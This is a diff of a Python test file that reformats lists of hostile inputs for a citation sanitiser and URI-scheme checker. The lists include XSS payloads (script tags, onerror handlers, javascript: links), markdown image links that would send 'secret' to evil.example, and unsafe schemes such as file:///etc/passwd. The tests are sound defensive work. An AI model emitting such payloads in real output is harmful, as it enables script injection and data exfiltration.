@@ -14,12 +14,24 @@ from raftops.data.records import Citation, Hit, Locator, Passage, Unit
 from raftops.service.wire import Reply, results
 
 HOSTILE = [
-    "[the form](javascript:alert('PWNED'))", "![](http://evil.example/?q=secret)", "![x](data:image/png;base64,AAAA)",
-    "[![x](http://evil.example/a)](http://evil.example/b)", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>",
-    "<javascript:alert(1)>", "<http://evil.example/?q=1>", "see https://evil.example/?q=secret today", "www.evil.example/a",
-    "[a][b]\n\n[b]: http://evil.example", "[a [b] c](http://evil.example)", "[a](<http://evil.example> 'x')",
-    "[a\nb](http://evil.example)", "![a][b]\n\n[b]: data:text/html,x", "[a](http://evil.example/((x)))", "<a\nhref=//evil>x</a>",
-]  # fmt: skip
+    "[the form](javascript:alert('PWNED'))",
+    "![](http://evil.example/?q=secret)",
+    "![x](data:image/png;base64,AAAA)",
+    "[![x](http://evil.example/a)](http://evil.example/b)",
+    "<img src=x onerror=alert(1)>",
+    "<script>alert(1)</script>",
+    "<javascript:alert(1)>",
+    "<http://evil.example/?q=1>",
+    "see https://evil.example/?q=secret today",
+    "www.evil.example/a",
+    "[a][b]\n\n[b]: http://evil.example",
+    "[a [b] c](http://evil.example)",
+    "[a](<http://evil.example> 'x')",
+    "[a\nb](http://evil.example)",
+    "![a][b]\n\n[b]: data:text/html,x",
+    "[a](http://evil.example/((x)))",
+    "<a\nhref=//evil>x</a>",
+]
 
 
 @pytest.mark.parametrize("text", HOSTILE)
@@ -45,11 +57,19 @@ def test_marks_of_direction_of_no_width_and_tags_are_gone():
 @pytest.mark.parametrize(
     ("uri", "safe"),
     [
-        ("https://a.example/x.md", True), ("mailto:hr@a.example", True), ("leave/a%20b.md", True), ("", True),
-        ("javascript:alert(1)", False), ("JaVa\tScript:alert(1)", False), ("data:text/html,x", False),
-        ("//evil.example", False), ("\\\\evil", False), ("vbscript:x", False), ("file:///etc/passwd", False),
+        ("https://a.example/x.md", True),
+        ("mailto:hr@a.example", True),
+        ("leave/a%20b.md", True),
+        ("", True),
+        ("javascript:alert(1)", False),
+        ("JaVa\tScript:alert(1)", False),
+        ("data:text/html,x", False),
+        ("//evil.example", False),
+        ("\\\\evil", False),
+        ("vbscript:x", False),
+        ("file:///etc/passwd", False),
     ],
-)  # fmt: skip
+)
 def test_addresses_of_citations_have_known_schemes(uri, safe):
     assert safe_uri(uri) == (uri if safe else "")
 
